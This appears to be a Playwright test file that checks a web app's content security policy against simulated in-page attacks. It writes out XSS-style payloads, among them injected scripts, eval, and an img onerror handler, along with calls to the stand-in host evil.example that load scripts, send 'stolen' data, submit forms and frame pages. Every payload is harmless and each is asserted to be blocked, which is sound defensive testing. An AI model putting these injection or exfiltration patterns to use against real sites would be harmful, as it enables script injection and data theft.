/** The content security policy blocks attacks. accessibility.e2e.ts checks that no screen violates the policy. */
import { security } from '#test/support/requirements.ts'
import { randomUUID } from 'node:crypto'
import { enter, expect, test, type Page } from './support/desk.ts'
import { collectPolicyViolations } from './support/policy.ts'
import { served } from './support/served.ts'

const testWithViolations = test.extend({
  // The browser logs each violation as an error, which is expected here.
  failOnBrowserErrors: async ({}, use) => use(),
})

testWithViolations("a photo opens inline and doesn't run scripts", async ({ page, desk }) => {
  await enter(page.context(), desk.admin)
  const [loan] = await desk.admin.call('listLoans', { query: { search: 'Millrace Row' } })
  const params = { loanId: loan?.id ?? '' }
  const [photo] = await desk.admin.call('listLoanPhotos', { params })
  const complaints: string[] = []
  page.on('console', (message) => complaints.push(message.text()))
  await page.goto(`/objects/${photo?.fileUrl}`)
  await page.waitForFunction(() => document.images[0]?.complete)
  expect(await page.evaluate(() => document.images[0]?.naturalWidth)).toBeGreaterThan(100)
  // The browser displays a photo on a built-in page that contains styles but no scripts.
  expect(complaints.filter((text) => text.includes('Content Security Policy'))).toEqual([])
})

/** Attempts by an attacker who can run code in the page. A successful attempt sets `gotThrough`. */
const attempts: Record<string, { act: () => unknown; refusedBy: RegExp }> = {
  'an inline script that was written into the page': {
    act: () => {
      const script = document.createElement('script')
      script.append('window.gotThrough = true')
      document.head.append(script)
    },
    refusedBy: /^(script-src-elem inline|require-trusted-types-for)/,
  },
  'a script of another site': {
    act: () => {
      const script = document.createElement('script')
      script.setAttribute('src', 'https://evil.example/x.js')
      document.head.append(script)
    },
    refusedBy: /^require-trusted-types-for/,
  },
  'text as code': {
    act: () => {
      // oxlint-disable-next-line typescript/no-implied-eval -- The policy must block this.
      window.setTimeout('window.gotThrough = true', 0)
    },
    refusedBy: /^(script-src eval|require-trusted-types-for)/,
  },
  eval: {
    act: () => {
      // oxlint-disable-next-line no-eval -- The policy must block this.
      return (0, eval)('window.gotThrough = true')
    },
    refusedBy: /^(script-src eval|require-trusted-types-for)/,
  },
  'text as markup': {
    act: () => {
      document.body.innerHTML = '<img src=x onerror="window.gotThrough = true">'
    },
    refusedBy: /^require-trusted-types-for/,
  },
  'a policy that trusts text': {
    act: () => {
      // TypeScript's DOM types don't include this property.
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
      }
      trustedTypes.createPolicy('default', { createHTML: (text: string) => text })
    },
    refusedBy: /^trusted-types/,
  },
  'a handler in an attribute': {
    act: () => {
      document.body.setAttribute('onclick', 'window.gotThrough = true')
      document.body.click()
    },
    refusedBy: /^(script-src-attr inline|require-trusted-types-for)/,
  },
  'styles in an attribute': {
    act: () => document.body.setAttribute('style', 'display: none'),
    refusedBy: /^style-src-attr inline/,
  },
  'a call to another site': {
    act: () => fetch('https://evil.example/?stolen'),
    refusedBy: /^connect-src https:\/\/evil\.example/,
  },
  'a form to another site': {
    act: () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    },
    refusedBy: /^form-action https:\/\/evil\.example/,
  },
  'a frame': {
    act: () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    },
    refusedBy: /^frame-src https:\/\/evil\.example/,
  },
  'a plug-in': {
    act: () => {
      const plugin = document.createElement('embed')
      plugin.type = 'application/x-shockwave-flash'
      plugin.setAttribute('width', '10')
      document.body.append(plugin)
      const frame = document.createElement('object')
      frame.type = 'text/html'
      Reflect.set(frame, 'data', 'https://evil.example/')
      document.body.append(frame)
    },
    refusedBy: /^(object-src|require-trusted-types-for)/,
  },
  'another base for addresses': {
    act: () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    },
    refusedBy: /^base-uri https:\/\/evil\.example/,
  },
}

testWithViolations(
  'the content security policy blocks injected code, styles, frames, and forms, and calls to other sites',
  async ({ page }) => {
    security('1.3.2', '3.2.2', '3.4.3')
    const refused = await collectPolicyViolations(page.context())
    await page.goto('/login')
    await expect(page.getByLabel('Email')).toBeVisible()
    expect(refused).toEqual([])
    for (const [name, { act, refusedBy }] of Object.entries(attempts)) {
      await testWithViolations.step(name, async () => {
        await attempt(page, act)
        await expect
          .poll(() => refused.some((each) => refusedBy.test(each)), { message: name })
          .toBe(true)
        expect(await page.evaluate(() => 'gotThrough' in window)).toBe(false)
        expect(page.url()).toBe(`${served().address}/login`)
        await clearViolations(page, refused)
      })
    }
  },
)

/**
 * Clears the violations before the next attempt. Causes a known violation first and waits for its report, because
 * reports arrive in order.
 */
async function clearViolations(page: Page, refused: string[]) {
  const last = `https://last.example/${randomUUID()}`
  await page.evaluate((address) => fetch(address).catch(() => undefined), last)
  await expect.poll(() => refused).toContain(`connect-src ${last}`)
  refused.length = 0
}

testWithViolations(
  'the content security policy prevents other sites from framing the pages',
  async ({ page, desk }) => {
    const other = await desk.openAs(null)
    await other.route('http://evil.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<iframe src="${served().address}/login"></iframe>`,
      }),
    )
    await other.goto('http://evil.example/')
    await expect(other.frameLocator('iframe').getByLabel('Email')).toHaveCount(0)
    await page.goto('/login')
    await expect(page.getByLabel('Email')).toHaveCount(1)
  },
)

/** Runs the attempt in a timer, because code that Playwright evaluates directly is exempt from the policy. */
const attempt = (page: Page, act: () => unknown) =>
  page.evaluate(
    `new Promise((resolve) => setTimeout(() =>
       Promise.resolve().then(${String(act)}).catch(() => {}).finally(() => resolve()), 0))`,
  )
